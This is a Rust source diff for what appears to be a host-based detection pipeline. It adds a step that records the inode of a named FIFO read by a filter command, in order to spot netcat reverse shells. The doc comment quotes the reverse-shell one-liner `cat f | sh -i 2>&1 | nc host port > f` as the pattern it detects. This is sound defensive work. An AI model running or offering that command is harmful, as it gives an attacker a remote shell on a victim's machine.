@@ -555,6 +555,7 @@ impl Pipeline {
                 self.untracked_change(&mut info, ev);
                 info.lineage = self.lineage(pid);
                 self.script_writer(&mut info, ev);
+                self.input_fifo(&mut info);
                 Event::Exec(Box::new(info))
             }
             Record::Fork(ev) => {
@@ -920,6 +921,32 @@ impl Pipeline {
         };
         if let Some(w) = written.writer(&key) {
             info.script_written_by = Some(writer(&w, &self.clock));
+        }
+    }
+
+    /// A filter writing into a pipe, with no pipe on its standard input, that reads a named FIFO
+    /// an operand names (`cat f | sh -i 2>&1 | nc host port > f`, the commonest netcat reverse
+    /// shell: `cat` opens the FIFO after its exec, so the exec record cannot hold it): the
+    /// FIFO's inode, by `stat` through the process's root from its working directory (no open:
+    /// a FIFO cannot block it). Only such filters pay ([`crate::detect::fifo_operands`]); a
+    /// name that is no FIFO adds nothing.
+    fn input_fifo(&mut self, info: &mut ExecInfo) {
+        let Some(rules) = self.script_rules.as_ref() else {
+            return;
+        };
+        let root = self
+            .proc_root
+            .join(info.process.pid.to_string())
+            .join("root");
+        for operand in crate::detect::fifo_operands(rules, info) {
+            let path = normalize(&resolve_exe(operand, info.cwd.as_deref()));
+            let Ok(relative) = path.strip_prefix("/") else {
+                continue;
+            };
+            if let Some(ino) = self.hashes.fifo_inode_of(&root.join(relative)) {
+                info.input_fifo = Some(ino);
+                return;
+            }
         }
     }
 
